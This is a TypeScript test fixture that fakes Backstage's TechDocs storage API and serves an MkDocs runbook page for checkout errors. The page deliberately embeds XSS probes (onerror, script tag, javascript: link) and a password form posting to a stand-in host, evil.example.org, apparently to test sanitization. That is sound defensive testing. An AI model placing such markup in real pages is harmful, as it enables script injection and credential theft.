import type { TechDocsStorageApi } from '@backstage/plugin-techdocs-react';

/** A page as MkDocs builds it, with what a careless or hostile author may put into one. */
const page = `<!doctype html><html><head><title>Errors</title>
<style>body { display: none }</style></head><body>
<nav>site navigation</nav><main><article class="md-content__inner">
<h1 id="checkout-errors-high">CheckoutErrorsHigh<a class="headerlink" href="#checkout-errors-high">¶</a></h1>
<h2 id="meaning">Meaning</h2>
<p>More than 1 % of the orders end in an error.</p>
<h2 id="impact">Impact</h2>
<p>Customers cannot pay. <img src="../orders.png" alt="Orders per minute" onerror="alert(1)"></p>
<h2 id="mitigation">Mitigation</h2>
<ol><li>Is only the canary affected? Then <strong>roll back</strong>.</li>
<li><p>Look at the newest errors:</p>
<div class="highlight"><pre><span></span><code>kubectl -n shop logs deploy/checkout --since=10m | grep -i error --before-context=3 --after-context=3
</code></pre></div></li>
<li>Queue growing as well? See <a href="../queue-grows/#mitigation">QueueGrows</a>
and the <a href="https://status.example.org/">status page</a>.</li></ol>
<script>alert(1)</script>
<a href="javascript:alert(1)" onclick="alert(1)">do not press</a>
<form action="https://evil.example.org"><input name="password"></form>
<h3 id="by-hand">By hand</h3><p>Only if the portal is down.</p>
<h2 id="escalation">Escalation</h2><p>The shop team.</p>
</article></main></body></html>`;

class NotFoundError extends Error {
  name = 'NotFoundError';
}

/** Documentation without TechDocs; the path of a page says what is wrong with it. */
export function fakeDocs(): TechDocsStorageApi {
  const base = 'http://localhost:7007/api/techdocs';
  return {
    getApiOrigin: async () => base,
    getStorageUrl: async () => `${base}/static/docs`,
    getBuilder: async () => 'local',
    async getEntityDocs(_, path) {
      if (path.includes('no-page')) throw new NotFoundError('Page not found');
      if (path.includes('refused'))
        return '{"error":{"name":"NotAllowedError"}}';
      return page;
    },
    async syncEntityDocs({ name }) {
      if (name === 'broken') throw new Error('mkdocs: command not found');
      return 'cached';
    },
    getBaseUrl: async (old, { namespace, kind, name }, path) =>
      new URL(
        old,
        `${base}/static/docs/${namespace}/${kind}/${name}/${path}`,
      ).toString(),
  };
}
